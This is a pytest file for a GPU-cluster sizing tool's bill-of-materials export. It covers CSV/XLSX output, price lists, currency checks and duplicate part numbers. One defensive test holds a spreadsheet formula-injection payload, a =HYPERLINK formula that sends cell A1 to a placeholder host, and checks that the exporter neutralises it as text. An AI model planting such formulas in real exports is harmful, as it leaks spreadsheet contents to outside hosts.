"""``gpuwizard bom``: CSV and XLSX, with and without a price list; bad input exits 2."""

import csv
import json

import pytest

from tests.conftest import ROOT, run_cli

SAMPLE = ROOT / "resources" / "examples" / "prices-sample.toml"


@pytest.fixture
def design(tmp_path):
    path = tmp_path / "d.json"
    assert run_cli("example", "enterprise", "-o", str(path)).returncode == 0
    return path


def test_bom_csv_without_prices(tmp_path, design):
    out = tmp_path / "bom.csv"
    proc = run_cli("bom", str(design), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    by_item = {r["item"]: r for r in rows}
    assert by_item["server:dell-c4140"]["quantity"] == "8"
    assert by_item["gpu:v100-sxm2-32gb"]["quantity"] == "32"
    assert by_item["licence:nvidia-ai-enterprise"]["quantity"] == "32"
    assert all(r["unit_price"] == "" for r in rows)


def test_bom_csv_with_the_sample_price_list(tmp_path, design):
    out = tmp_path / "bom.csv"
    proc = run_cli("bom", str(design), "-o", str(out), "--prices", str(SAMPLE))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    server = next(r for r in rows if r["item"] == "server:dell-c4140")
    assert float(server["total_price"]) == 8 * 11111
    totals = {r["item"]: float(r["total_price"]) for r in rows if r["category"] == "total"}
    # bought once and per year are separate sums: hardware plus one year of subscriptions would
    # be neither the price of the order nor a yearly cost
    assert "all" not in totals
    assert totals["per-year"] == totals["licence"]
    hardware = [v for k, v in totals.items() if k not in ("licence", "one-off", "per-year")]
    assert totals["one-off"] == pytest.approx(sum(hardware))
    assert "no price for" in proc.stderr  # cables are not in the sample


def test_bom_xlsx(tmp_path, design):
    from openpyxl import load_workbook

    out = tmp_path / "bom.xlsx"
    assert run_cli("bom", str(design), "-o", str(out)).returncode == 0
    ws = load_workbook(out).active
    # headers and categories in words for the buyer; the price list's keys stay in the CSV
    assert [c.value for c in ws[1]][:5] == [
        "Category",
        "Part number",
        "Description",
        "Quantity",
        "Unit",
    ]
    assert {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)} >= {"Server", "GPU"}
    assert not any("server:" in str(c.value) for row in ws.iter_rows() for c in row)
    # printed as office users expect: landscape, one page wide, the header on every page
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"


def test_price_list_in_another_currency_is_refused(tmp_path, design):
    prices = tmp_path / "p.csv"
    prices.write_text("item,unit_price,currency\nserver:dell-c4140,5,USD\n", encoding="utf-8")
    proc = run_cli("bom", str(design), "-o", str(tmp_path / "b.csv"), "--prices", str(prices))
    assert proc.returncode == 2
    assert "prices are in USD" in proc.stderr and "EUR" in proc.stderr
    assert not (tmp_path / "b.csv").exists()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("item,unit_price,currency\nserver:x,cheap,EUR\n", "unit_price is not a number"),
        ("name,price\n", "first row must be"),
        ("item,unit_price,currency\nserver:x,-5,EUR\n", "greater than or equal to 0"),
    ],
)
def test_bad_price_lists_name_the_problem(tmp_path, design, text, message):
    prices = tmp_path / "p.csv"
    prices.write_text(text, encoding="utf-8")
    proc = run_cli("bom", str(design), "-o", str(tmp_path / "b.csv"), "--prices", str(prices))
    assert proc.returncode == 2 and message in proc.stderr, proc.stderr


def test_bom_refuses_an_unknown_format(tmp_path, design):
    proc = run_cli("bom", str(design), "-o", str(tmp_path / "b.pdf"))
    assert proc.returncode == 2 and ".csv or .xlsx" in proc.stderr


def test_size_json_has_topology_power_racks_bom(design):
    proc = run_cli("size", str(design), "--json")
    doc = json.loads(proc.stdout)["clusters"][0]["result"]
    assert doc["topology"]["hosts"][0]["server"] == "dell-c4140"
    assert doc["power"]["total_w"] > 0 and doc["racks"]["racks"] and doc["bom"]["lines"]


def test_names_that_look_like_formulas_stay_text(tmp_path):
    """OWASP ASVS 5.0, 1.2.10: a cell starting with '=', '+', '-', '@', tab or NUL is run as a
    formula by spreadsheet programs; a catalog part number or a name must stay text."""
    import csv
    import io as _io

    from openpyxl import load_workbook

    from reports.bom_export import bom_csv, bom_xlsx
    from wizard.model.buildout import Bom, BomCategory, BomLine

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    bom = Bom(lines=[BomLine(category=BomCategory.SERVER, item="server:x", part_number=hostile,
                             description="@SUM(A1:A9)", quantity=1, unit="each",
                             source="-2+3")])  # fmt: skip
    rows = list(csv.reader(_io.StringIO(bom_csv(bom))))
    assert rows[1][2] == "'" + hostile and rows[1][3] == "'@SUM(A1:A9)" and rows[1][9] == "'-2+3"
    path = tmp_path / "bom.xlsx"
    path.write_bytes(bom_xlsx(bom))
    ws = load_workbook(path).active
    assert ws["B2"].value == hostile and ws["B2"].data_type == "s"
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


def test_an_item_priced_twice_is_refused(tmp_path):
    from wizard.app.pricing import load_prices
    from wizard.base.errors import UserError

    path = tmp_path / "p.csv"
    path.write_text("item,unit_price,currency\nserver:x,10,EUR\nserver:x,12,EUR\n")
    with pytest.raises(UserError) as info:
        load_prices(path)
    assert "line 3" in str(info.value) and "'server:x' is priced twice" in str(info.value)


def _bom_with(tmp_path, design, toml: str):
    prices = tmp_path / "p.toml"
    prices.write_text('currency = "EUR"\n[prices]\n' + toml, encoding="utf-8")
    out = tmp_path / "b.csv"
    return run_cli("bom", str(design), "-o", str(out), "--prices", str(prices)), out


@pytest.mark.parametrize(
    ("value", "shown"), [("true", "true"), ('"100"', "'100'")], ids=["boolean", "string"]
)
def test_a_price_is_a_number_not_something_coerced_into_one(tmp_path, design, value, shown):
    """TOML's true and "100" used to be read as 1 and 100; they are refused by key."""
    proc, out = _bom_with(tmp_path, design, f'"nic:cx5-100g-2p" = {value}\n')
    assert proc.returncode == 2 and "nic:cx5-100g-2p" in proc.stderr, proc.stderr
    assert not out.exists()


def test_a_price_of_minus_zero_prints_as_zero(tmp_path, design):
    proc, out = _bom_with(tmp_path, design, '"nic:cx5-100g-2p" = -0.0\n')
    assert proc.returncode == 0, proc.stderr
    text = out.read_text(encoding="utf-8")
    assert "-0.00" not in text and "-0" not in text.split("nic:cx5-100g-2p")[1].split("\n")[0]


def test_two_spellings_of_one_part_are_refused_by_name(tmp_path, design):
    """'MCX516A-CCAT' and 'mcx516a-ccat' are one part: which price wins is not left to the
    order of the file."""
    proc, out = _bom_with(tmp_path, design, '"MCX516A-CCAT" = 900\n"mcx516a-ccat" = 950\n')
    assert proc.returncode == 2, proc.stderr
    assert "'MCX516A-CCAT' and 'mcx516a-ccat' are the same item" in proc.stderr
    assert not out.exists()


def test_a_part_number_matches_whatever_its_case(tmp_path, design):
    """The negative case of the one above: one spelling in lower case still prices the NIC."""
    proc, out = _bom_with(tmp_path, design, '"mcx516a-ccat" = 900\n')
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    (nic,) = [r for r in rows if r["part_number"] == "MCX516A-CCAT"]
    assert float(nic["unit_price"]) == 900


def test_a_key_and_its_part_number_priced_differently_are_refused(tmp_path, design):
    proc, out = _bom_with(tmp_path, design, '"nic:cx5-100g-2p" = 900\n"MCX516A-CCAT" = 950\n')
    assert proc.returncode == 2, proc.stderr
    assert "'nic:cx5-100g-2p' is priced 900.00 and its part number 'MCX516A-CCAT' 950.00" in (
        proc.stderr
    )
    assert not out.exists()
